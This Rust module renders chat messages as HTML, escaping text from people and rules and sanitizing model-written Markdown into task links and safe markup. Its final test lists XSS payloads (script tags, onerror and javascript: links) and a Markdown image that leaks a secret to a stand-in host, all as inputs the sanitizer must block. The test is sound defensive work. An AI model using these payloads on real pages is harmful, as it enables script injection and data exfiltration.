//! What was said, as HTML that a page takes as it is: word for word what a person or a rule wrote, and as Markdown what a model did.

use std::borrow::Cow;
use std::collections::BTreeMap;

use crate::api::tasks::TaskRow;
use crate::domain::approval;
use crate::domain::conversation::Message;
use crate::domain::decision::Engine;
use crate::domain::id::TaskNumber;
use crate::domain::mention::pieces;
use crate::domain::task::{Status, Task};
use crate::raw_text::push_escaped;
use crate::words::chat as words;

/// Markdown as HTML.
mod markdown;

pub use markdown::marked;

/// The HTML of a message, without what the page shows in another form beside it: the tasks in `listed`, and the hint at what answers
/// a question. Every `#42` is a link to that task and shows what became of it, where it is one of `tasks`.
pub fn said(message: &Message, listed: &[TaskRow], tasks: &[Task]) -> String {
    let mut text = Cow::from(&message.text);
    if !listed.is_empty() {
        text = without_entries(&text, listed).into();
    }
    if message.approval.is_some() {
        // Its buttons say so.
        text = approval::without_hint(&text).to_owned().into();
    }
    match message.engine {
        Some(Engine::Openai | Engine::Gemini | Engine::Compatible) => marked(&text, tasks),
        Some(Engine::Rules | Engine::External) | None => plain(&text, tasks),
    }
}

/// Text as it stands.
fn plain(text: &str, tasks: &[Task]) -> String {
    let (mut chips, mut budget) = (Chips::new(text, tasks), Budget::default());
    let mut all = String::with_capacity(text.len());
    pieces(text, |piece| match piece {
        Ok(text) => push_escaped(&mut all, text),
        Err(number) => match chips.html(number, &mut budget) {
            Some(html) => all += &html,
            None => all.extend(["#", number]),
        },
    });
    all
}

/// Bytes of HTML that a message may come to beside its own text.
const MOST_MARKUP: usize = 12 * 1024;

/// What is left of [`MOST_MARKUP`].
#[derive(Clone, Copy)]
struct Budget(usize);

impl Default for Budget {
    fn default() -> Self {
        Self(MOST_MARKUP)
    }
}

impl Budget {
    /// Takes so many bytes from it, where it has them.
    fn take(&mut self, bytes: usize) -> bool {
        let left = self.0.checked_sub(bytes);
        self.0 = left.unwrap_or(self.0);
        left.is_some()
    }
}

/// The tasks that a text speaks of, as they are now.
struct Chips<'a> {
    tasks: &'a [Task],
    /// The text in small letters, and whether it says the title of a task.
    text: String,
    told: BTreeMap<TaskNumber, bool>,
    /// One did not fit into the budget: the others are text as well.
    full: bool,
}

impl<'a> Chips<'a> {
    fn new(text: &str, tasks: &'a [Task]) -> Self {
        let text = if tasks.is_empty() { String::new() } else { text.to_lowercase() };
        Self { tasks, text, told: BTreeMap::new(), full: false }
    }

    /// A mention of a task, as a link; `None` where the budget has no room for it.
    fn html(&mut self, number: &str, budget: &mut Budget) -> Option<String> {
        // As much as cleaning may add.
        const REL: usize = 40;
        if self.full {
            return None;
        }
        let html = self.link(number);
        self.full = !budget.take(html.len() + REL);
        (!self.full).then_some(html)
    }

    /// What the text does not say itself stands beside the number.
    fn link(&mut self, number: &str) -> String {
        let known = TaskNumber::parse(number).ok();
        let known = known.and_then(|number| self.tasks.iter().find(|task| task.task_id == number));
        let Some(task) = known else { return format!("<a href=\"/tasks/{number}\">#{number}</a>") };
        let says = || self.text.contains(&task.title.as_str().to_lowercase());
        let told = *self.told.entry(task.task_id).or_insert_with(says);
        let state = match (&task.deleted_at, task.status) {
            (Some(_), _) => Some(words::IN_THE_BIN_NOW),
            (None, Status::Completed) => Some(words::DONE_NOW),
            (None, Status::Pending) => None,
        };
        let title = (!told).then_some(task.title.as_str());
        let mut html = format!("<a class=\"task-chip\" href=\"/tasks/{number}\">#{number}");
        for (class, part) in [("task-chip__title", title), ("task-chip__state", state)] {
            if let Some(part) = part {
                html += &format!(" <span class=\"{class}\">");
                push_escaped(&mut html, part);
                html += "</span>";
            }
        }
        html + "</a>"
    }
}

/// The text without the entries of a list that the card shows.
fn without_entries(text: &str, rows: &[TaskRow]) -> String {
    let numbers: Vec<_> = rows.iter().map(|row| format!("(#{})", row.task.task_id)).collect();
    let shown = |line: &str| {
        let entry = line.trim_start().starts_with(|c: char| c.is_ascii_digit() || "-*•".contains(c));
        entry && numbers.iter().any(|number| line.contains(number))
    };
    text.lines().filter(|line| !shown(line)).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_person_or_a_rule_wrote_stands_as_it_is() {
        let text = "buy *2* plates & <b>cups</b>\n# not a heading, see #7 and #";
        let html =
            "buy *2* plates &amp; &lt;b&gt;cups&lt;/b&gt;\n# not a heading, see <a href=\"/tasks/7\">#7</a> and #";
        assert_eq!(plain(text, &[]), html);
    }

    #[test]
    fn a_mention_shows_what_the_text_does_not_say() {
        let task = |status: &str, deleted: Option<&str>| -> Task {
            let at = "2026-03-11T09:30:00Z";
            serde_json::from_value(serde_json::json!({
                "task_id": 7, "title": "Oat <milk>", "description": null, "status": status, "priority": "none", "due": null,
                "project": null, "tags": [], "recurrence": null, "version": 1, "created_at": at, "updated_at": at,
                "completed_at": null, "deleted_at": deleted,
            }))
            .unwrap()
        };
        let open = task("pending", None);
        let chip = |inside: &str| format!("<a class=\"task-chip\" href=\"/tasks/7\">#7{inside}</a>");
        let title = " <span class=\"task-chip__title\">Oat &lt;milk&gt;</span>";
        let state = |state: &str| format!(" <span class=\"task-chip__state\">{state}</span>");
        assert_eq!(plain("#7", std::slice::from_ref(&open)), chip(title));
        assert_eq!(
            plain("Added oat <milk> (#7)", std::slice::from_ref(&open)),
            format!("Added oat &lt;milk&gt; ({})", chip(""))
        );
        assert_eq!(
            plain("milk #7", &[task("completed", None)]),
            format!("milk {}", chip(&(title.to_owned() + &state("done"))))
        );
        let binned = task("completed", Some("2026-03-11T09:30:00Z"));
        assert_eq!(plain("Oat <milk> #7", &[binned]), format!("Oat &lt;milk&gt; {}", chip(&state("in the bin"))));
        assert_eq!(plain("#8", std::slice::from_ref(&open)), "<a href=\"/tasks/8\">#8</a>");
        // The same behind a model's words.
        let html = marked("*milk* #7", &[open]);
        assert_eq!(
            html,
            format!(
                "<p><em>milk</em> {}</p>\n",
                chip(title).replace("\">#7", "\" rel=\"noopener noreferrer nofollow\">#7")
            )
        );
    }

    #[test]
    fn what_a_model_wrote_is_markdown() {
        for (text, html) in [
            ("**Done**, *really*", "<p><strong>Done</strong>, <em>really</em></p>\n"),
            ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
            ("# Plan", "<p><strong>Plan</strong></p>\n"),
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
            ("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>\n"),
            ("`a #1`", "<p><code>a #1</code></p>\n"),
            ("```rust\n#1 <i>\n```", "<pre><code>#1 &lt;i&gt;\n</code></pre>\n"),
            (
                "Added milk (#42)",
                "<p>Added milk (<a href=\"/tasks/42\" rel=\"noopener noreferrer nofollow\">#42</a>)</p>\n",
            ),
            (
                "[here](https://example.org/a)",
                "<p><a href=\"https://example.org/a\" rel=\"noopener noreferrer nofollow\">here</a> (example.org)</p>\n",
            ),
        ] {
            assert_eq!(marked(text, &[]), html, "{text}");
        }
    }

    #[test]
    fn nothing_that_runs_or_loads_or_misleads_gets_through() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![secret](https://evil.example/?q=secret)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](//evil.example/)",
            "[x](/settings)",
            "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
            "[![a](https://evil.example/a.png)](vbscript:x)",
            "<svg/onload=alert(1)>",
            "<style>*{display:none}</style>",
            "[a]: javascript:alert(1)\n\n[a]",
        ] {
            let html = marked(text, &[]);
            let tags: Vec<&str> = html.match_indices('<').map(|(at, _)| &html[at..]).collect();
            let harmless = ["<p>", "</p>", "<br>"];
            assert!(tags.iter().all(|tag| harmless.iter().any(|it| tag.starts_with(it))), "{text}: {html}");
        }
        assert!(marked("[bank](https://evil.example)", &[]).contains("</a> (evil.example)"), "whoever it says it is");
    }
}
